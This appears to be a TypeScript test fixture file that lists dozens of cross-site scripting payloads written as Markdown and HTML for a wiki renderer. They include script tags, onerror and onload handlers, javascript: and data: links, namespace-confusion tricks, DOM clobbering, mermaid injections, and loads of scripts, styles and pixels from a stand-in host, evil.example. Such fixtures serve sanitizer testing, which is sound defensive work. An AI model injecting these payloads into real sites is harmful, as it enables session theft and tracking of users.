/** What attackers write into a wiki, as Markdown that a source file can hold. */
export const payloads: Readonly<Record<string, string>> = {
  'a script': 'Hi <script>alert(1)</script> there',
  'a script block': '<script>\nalert(1)\n</script>',
  'a script across case': 'Hi <ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script in a broken tag': 'Hi <scr<script>ipt>alert(1)</scr</script>ipt>',
  'an error handler on a picture': 'Hi <img src=x onerror=alert(1)>',
  'an error handler with slashes': 'Hi <img/src="x"/onerror="alert(1)">',
  'a load handler on a drawing': 'Hi <svg onload=alert(1)>',
  'a script in a drawing': '<svg><script>alert(1)</script></svg>',
  'an animated link in a drawing':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'a drawing through a namespace':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a javascript link': '[click](javascript:alert(1))',
  'a javascript link in capitals': '[click](JaVaScRiPt:alert(1))',
  'a javascript link with entities': '[click](&#106;avascript:alert(1))',
  'a javascript link with a tab': 'Hi <a href="java&#9;script:alert(1)">click</a>',
  'a javascript link with a leading control character': 'Hi <a href="&#1;javascript:alert(1)">click</a>',
  'a javascript autolink': '<javascript:alert(1)>',
  'a javascript reference': '[click][x]\n\n[x]: javascript:alert(1)',
  'a data link': '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a vbscript link': 'Hi <a href="vbscript:msgbox(1)">click</a>',
  'a protocol-relative link': '[click](//evil.example/)',
  'a protocol-relative link with backslashes': 'Hi <a href="/\\evil.example/">click</a>',
  'a picture from elsewhere': '![logo](https://evil.example/pixel.gif)',
  'a raw picture from elsewhere':
    'Hi <img src="https://evil.example/pixel.gif" srcset="//evil.example/2.gif 2x" alt="logo">',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">',
  'a form':
    '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>',
  'a style': '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  'a style attribute': 'Hi <b style="position:fixed;inset:0;background:url(//evil.example/x)">there</b>',
  'a base and a meta':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a clobbered name': 'Hi <a id="search" name="body">x</a><img name="getElementById" id="main" src=x alt="">',
  'an unclosed comment': 'Hi <!-- <img src=x onerror=alert(1)> -- > <img src=x onerror=alert(2)>',
  'a comment that closes early': 'Hi <!--> <img src=x onerror=alert(1)> -->',
  'details that open': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a link title': '[x](https://example.com/ "\\"><img src=x onerror=alert(1)>")',
  'an alternative text': '![\\"><img src=x onerror=alert(1)>](x.png)',
  'a code fence': '```"><img/src/onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  'a footnote': 'Hi[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: <img src=x onerror=alert(1)>',
  'a mermaid fence':
    '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"]\n  click a "javascript:alert(1)"\n```',
  'a mermaid link': '```mermaid\nflowchart LR\n  a[One] --> b[Two]\n  click a href "//evil.example/"\n```',
  'a mermaid style':
    '```mermaid\n---\nconfig:\n  themeCSS: "*{fill:url(https://evil.example/x.svg#x)}"\n---\nsequenceDiagram\n  a->>b: Go\n```',
}
